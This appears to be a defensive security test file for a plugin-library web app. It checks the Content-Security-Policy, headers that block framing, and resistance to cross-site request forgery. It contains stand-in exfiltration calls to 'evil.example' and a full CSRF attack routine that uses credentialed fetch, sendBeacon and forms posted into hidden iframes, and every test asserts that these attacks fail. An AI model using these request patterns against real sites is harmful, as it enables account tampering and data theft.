import { createServer, type Server } from 'node:http'
import type { Page } from '@playwright/test'
import { watchPolicy } from './parts/page/watch-policy.ts'
import type { Producer } from './parts/people/a-producer.ts'
import { furnishLibrary } from './parts/states/furnish.ts'
import { expect, story } from './parts/story.ts'

/** The policy of all responses; a page also allows one style. */
const POLICY = [
  "default-src 'none'",
  "script-src 'self'",
  "style-src 'self'",
  "img-src 'self' blob: data:",
  "font-src 'self'",
  "connect-src 'self'",
  "manifest-src 'self'",
  "form-action 'self'",
  "base-uri 'none'",
  "object-src 'none'",
  "frame-ancestors 'none'",
  "require-trusted-types-for 'script'",
].join(';')

story('every page has exactly this policy, with a new nonce each time', async ({ page }) => {
  const nonces = new Set<string>()
  const pages = ['/', '/auth', '/plugins', '/settings', '/nowhere']
  for (const path of [...pages, '/api/server', '/api/nothing', '/theme.js']) {
    const headers = (await page.request.get(path)).headers()
    const policy = headers['content-security-policy'] ?? ''
    const [style = '', nonce] = / 'nonce-([\da-f]{32})'/.exec(policy) ?? []
    expect(policy.replace(style, ''), path).toBe(POLICY)
    expect(policy).not.toMatch(/unsafe-inline|unsafe-eval|\*|https?:/)
    expect(style !== '', path).toBe(pages.includes(path))
    if (nonce) nonces.add(nonce)
    expect(headers, path).toMatchObject({
      'x-content-type-options': 'nosniff',
      'x-frame-options': 'SAMEORIGIN',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
    })
  }
  expect(nonces.size).toBe(pages.length)
})

story('the policy blocks and reports forbidden actions', async ({ page, complaints }) => {
  const violations = await watchPolicy(page)
  await page.goto('/auth')
  const attempts = await page.evaluate(async () => {
    const done: string[] = []
    const style = document.createElement('style')
    style.textContent = 'body { opacity: 0 }'
    document.body.append(style)
    const elsewhere = 'https://evil.example/x.js'
    await import(elsewhere).then(
      () => done.push('script'),
      () => {},
    )
    await fetch('https://evil.example/steal').then(
      () => done.push('fetch'),
      () => {},
    )
    try {
      document.body.setAttribute('onclick', 'window.ran = 1')
      document.body.click()
      if (Reflect.get(window, 'ran')) done.push('handler')
    } catch {}
    try {
      document.createElement('div').innerHTML = '<b>x</b>'
      done.push('innerHTML')
    } catch {}
    try {
      Reflect.get(window, 'eval')('1')
      done.push('eval')
    } catch {}
    if (getComputedStyle(document.body).opacity === '0') done.push('style')
    return done
  })
  expect(attempts).toEqual([])
  await expect
    .poll(() => [...new Set(violations.map((text) => text.split(' ')[0]))].sort())
    .toEqual(['connect-src', 'require-trusted-types-for', 'script-src-elem', 'style-src-elem'])
  complaints.length = 0
})

/** A foreign site on another port. */
async function foreignSite() {
  const site: Server = createServer((_, answer) => {
    answer.setHeader('content-type', 'text/html')
    answer.end('<!doctype html><title>Elsewhere</title><body>')
  })
  await new Promise<void>((ready) => site.listen(0, '127.0.0.1', ready))
  const address = site.address()
  if (typeof address !== 'object' || address === null) throw new Error('The other site has no port.')
  return { port: address.port, stop: () => new Promise((stopped) => site.close(stopped)) }
}

type Attack = { url: string; pluginId: string }

/** All kinds of requests that a foreign page can make this browser send, with its cookies. */
async function attack(page: Page, { url, pluginId }: Attack) {
  return page.evaluate(
    async ({ url, pluginId }) => {
      const read: string[] = []
      const plugin = JSON.stringify({ name: 'Planted', format: 'VST3', path: 'planted' })
      const requests: [string, string, string?, string?][] = [
        ['POST', '/api/auth/logout'],
        ['POST', '/api/plugins', plugin, 'application/json'],
        ['POST', '/api/plugins', plugin, 'text/plain'],
        ['POST', '/api/plugins', `name=Planted&format=VST3`, 'application/x-www-form-urlencoded'],
        ['POST', '/api/plugins/bulk-import', `{"plugins":[${plugin}]}`, 'text/plain'],
        ['PATCH', `/api/plugins/${pluginId}`, '{"isFavorite":true}', 'application/json'],
        ['PATCH', '/api/auth/me', '{"displayName":"Planted","email":"a@b.co"}', 'application/json'],
        ['DELETE', `/api/plugins/${pluginId}`],
        ['DELETE', '/api/plugins'],
        ['POST', '/api/auth/pro-request'],
        ['GET', '/api/plugins'],
        ['GET', '/api/auth/me'],
        ['GET', '/api/account/export'],
      ]
      for (const mode of ['cors', 'no-cors'] as const) {
        for (const [method, path, body, type] of requests) {
          const options = { method, mode, credentials: 'include' as const }
          await fetch(`${url}${path}`, {
            ...options,
            ...(body && { body, headers: { 'content-type': type ?? '' } }),
          }).then(
            async (answer) => {
              const text = answer.type === 'opaque' ? '' : await answer.text()
              if (text) read.push(`${method} ${path} ${text.slice(0, 40)}`)
            },
            () => {},
          )
        }
      }
      navigator.sendBeacon(`${url}/api/auth/logout`, '')
      navigator.sendBeacon(`${url}/api/plugins`, new Blob([plugin], { type: 'text/plain' }))

      const submit = (path: string, enctype: string, name: string, value: string) =>
        new Promise<void>((loaded) => {
          const frame = document.createElement('iframe')
          frame.name = `frame-${Math.random()}`
          frame.onload = () => loaded()
          const form = document.createElement('form')
          Object.assign(form, { action: `${url}${path}`, method: 'post', enctype, target: frame.name })
          const field = Object.assign(document.createElement('input'), { name, value })
          form.append(field)
          document.body.append(frame, form)
          form.submit()
          setTimeout(loaded, 1500)
        })
      await submit('/api/auth/logout', 'application/x-www-form-urlencoded', 'a', 'b')
      await submit('/api/plugins', 'text/plain', '{"name":"Planted","format":"VST3","path":"', '"}')
      await submit('/api/plugins', 'application/x-www-form-urlencoded', 'name', 'Planted')
      await submit(`/api/plugins/${pluginId}/screenshot`, 'multipart/form-data', 'screenshot', 'x')
      const socket = await new Promise<string>((done) => {
        const picture = new Image()
        picture.onload = () => done('picture loaded')
        picture.onerror = () => done('')
        picture.src = `${url}/assets/logo.png?${Math.random()}`
        setTimeout(() => done(''), 1500)
      })
      return { read, socket }
    },
    { url, pluginId },
  )
}

for (const host of ['localhost', '127.0.0.1']) {
  story(
    `a page on another port of ${host} changes nothing and reads nothing`,
    async ({ page, producer, server, complaints }) => {
      await furnishLibrary(producer)
      const before = await everythingOf(producer)
      const plugins = before.plugins
      const victim = plugins.find(({ screenshot }) => screenshot === null)
      if (!victim) throw new Error('There is a plugin without a picture.')
      const elsewhere = await foreignSite()
      try {
        await page.goto(`http://${host}:${elsewhere.port}/`)
        const { read, socket } = await attack(page, { url: server.url, pluginId: victim.id })
        expect({ read, socket }).toEqual({ read: [], socket: '' })
        expect(await everythingOf(producer)).toEqual(before)
      } finally {
        await elsewhere.stop()
        complaints.length = 0
      }
    },
  )
}

story('no other page can show this site in a frame', async ({ page, onlooker: _, server, complaints }) => {
  const elsewhere = await foreignSite()
  await page.goto(`http://localhost:${elsewhere.port}/`)
  await page.evaluate((url) => {
    const frame = document.createElement('iframe')
    frame.src = `${url}/plugins`
    document.body.append(frame)
  }, server.url)
  await page.waitForTimeout(1500)
  expect(page.frames().filter((frame) => frame.url().startsWith(server.url))).toEqual([])
  expect(complaints.splice(0).join()).toContain('frame-ancestors')
  await elsewhere.stop()
})

type Everything = {
  user: unknown
  plugins: { id: string; screenshot: string | null }[]
  preferences: unknown
}

async function everythingOf(producer: Producer): Promise<Everything> {
  return {
    user: await producer.call('GET', '/api/auth/me'),
    // According to the contract, the response is the library.
    plugins: (await producer.call('GET', '/api/plugins')) as Everything['plugins'],
    preferences: await producer.call('GET', '/api/notifications/preferences'),
  }
}
